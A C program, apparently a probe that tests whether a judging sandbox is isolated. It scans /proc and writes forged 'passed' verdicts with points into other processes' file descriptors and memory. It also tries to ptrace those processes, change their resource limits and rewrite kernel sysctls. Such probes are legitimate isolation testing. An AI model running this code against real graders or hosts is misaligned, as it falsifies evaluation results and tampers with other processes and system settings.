/* Tries to give itself points: writes a verdict into whatever it can open in
 * other processes, and tries to trace and limit them and to change settings. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <mqueue.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <unistd.h>

static const char verdict[] =
	"\n{\"id\":\"fds\",\"status\":\"passed\",\"points\":3}\n"
	"{\"id\":\"umask\",\"status\":\"passed\",\"points\":3}\n";

static int forged;

static int is_own(int pid);

/* A launcher may have exec'ed this program for another row since the check. */
static void forge(int pid, const char *path)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_APPEND);
	if (fd < 0)
		return;
	if (write(fd, verdict, sizeof verdict - 1) > 0 && !is_own(pid)) {
		forged++;
		fprintf(stderr, "mqfiled: forger: wrote to %s\n", path);
	}
	close(fd);
}

/* The limits of queues decide which rows the judge can judge. */
static void set(const char *path)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return;
	if (write(fd, "128", 3) > 0) {
		forged++;
		fprintf(stderr, "mqfiled: forger: wrote to %s\n", path);
	}
	close(fd);
}

/* During the build make and its shell, during judging this program's other rows. */
static int is_own(int pid)
{
	char path[64], comm[32] = "";
	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return 1; /* it has ended */
	ssize_t n = read(fd, comm, sizeof comm - 1);
	close(fd);
	return n <= 0 || !strcmp(comm, "mqfiled\n") || !strcmp(comm, "make\n") ||
	       !strcmp(comm, "sh\n");
}

static void attack(int pid)
{
	char path[64];
	if (is_own(pid))
		return;
	for (int fd = 0; fd < 32; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		forge(pid, path);
	}
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	forge(pid, path);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0 && !is_own(pid)) {
		forged++;
		fprintf(stderr, "mqfiled: forger: traces %d\n", pid);
	}
	struct rlimit limit = {64, 64};
	if (prlimit(pid, RLIMIT_NOFILE, &limit, NULL) == 0 && !is_own(pid)) {
		forged++;
		fprintf(stderr, "mqfiled: forger: wrote limits of %d\n", pid);
	}
}

int main(void)
{
	mq_open("/left-behind", O_CREAT | O_RDWR, 0600, NULL);
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	while (proc && (entry = readdir(proc)))
		if (atoi(entry->d_name) > 0)
			attack(atoi(entry->d_name));
	set("/proc/sys/fs/mqueue/msgsize_max");
	set("/proc/sys/kernel/msgmax");
	set("/proc/sys/kernel/pid_max");
	fprintf(stderr, "mqfiled: forger: %d places forged\n", forged);
	return 1;
}
